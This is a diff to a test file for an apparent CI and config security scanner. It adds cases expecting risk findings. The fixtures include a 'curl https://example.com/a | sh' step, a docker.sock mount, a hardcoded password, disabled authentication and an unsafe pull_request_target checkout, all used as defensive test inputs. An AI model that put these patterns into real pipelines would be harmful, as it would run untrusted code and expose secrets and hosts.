@@ -9,6 +9,12 @@ const job = (lines: string): string =>
 const SOCKET = 'volumes: [{ name: a, hostPath: { path: /var/run/docker.sock } }]';
 const SIGN_IN = 'b: 1\nforce_authentication: true\n';
 const ON_LOAN = 'on: pull_request\njobs: { a: { runs-on: ubuntu-latest, steps: [{ run: make }] } }\n';
+const action = (run: string): string =>
+  `name: a\nruns: { using: composite, steps: [{ shell: bash, run: "${run}" }] }\n`;
+const PIPED = action('curl https://example.com/a | sh');
+const UNSAFE = ', with: { allow-unsafe-pr-checkout: true }';
+const fetching = (how: string): string =>
+  `on: pull_request_target\njobs: { a: { steps: [{ uses: actions/checkout@v6${how} }] } }\n`;
 const ON_OWN = ON_LOAN.replace('ubuntu-latest', 'self-hosted');
 const login = (host: string): string => `a: 1\ndsn: postgres://app:vK8x2mQ9zL@${host}/app\n`;
 const ALLOWS = 'env: { ALLOW_ANONYMOUS_LOGIN: "yes" }';
@@ -53,9 +59,18 @@ test.each([
   ['app/settings.yaml', 'a: 1\n', login('localhost'), ['secret-written medium']],
   ['clusters/dev/settings.yaml', 'a: 1\n', login('db'), ['secret-written medium']],
   ['test/integration/a.yaml', SIGN_IN, 'b: 1\n', ['authentication-disabled low']],
+  ['environments/test/integration/a.yaml', SIGN_IN, 'b: 1\n', ['authentication-disabled medium']],
+  ['web/test/showcase/a.yaml', SIGN_IN, 'b: 1\n', ['authentication-disabled medium']],
+  ['web/test/case-service/a.yaml', SIGN_IN, 'b: 1\n', ['authentication-disabled medium']],
   ['clusters/test/a.yaml', SIGN_IN, 'b: 1\n', ['authentication-disabled medium']],
   ['clusters/integration/a.yaml', SIGN_IN, 'b: 1\n', ['authentication-disabled medium']],
   ['test/integration/a.yaml', SIGN_IN, SIGN_IN.replace('true', 'false'), ['authentication-disabled high']],
+  ['test/setup/action.yml', action('make'), PIPED, ['workflow-script-risk high']],
+  ['e2e/action.yml', action('make'), PIPED, ['workflow-script-risk high']],
+  ['.github/actions/e2e/action.yml', action('make'), PIPED, ['workflow-script-risk high']],
+  ['test/fixtures/action.yml', action('make'), PIPED, ['workflow-script-risk low']],
+  ['skaffold.yaml', 'b: 1\n', 'b: 1\npassword: vK8x2mQ9zL\n', ['secret-written medium']],
+  ['.github/workflows/e2e-test.yml', fetching(''), fetching(UNSAFE), ['workflow-unsafe-checkout high']],
   ['.github/workflows/test.yml', ON_LOAN, ON_OWN, ['workflow-self-hosted-strangers high']],
   ['test/repository/.github/workflows/ci.yml', ON_LOAN, ON_OWN, ['workflow-self-hosted-strangers medium']],
 ])('%s: %#', async (path, before, after, expected) => {
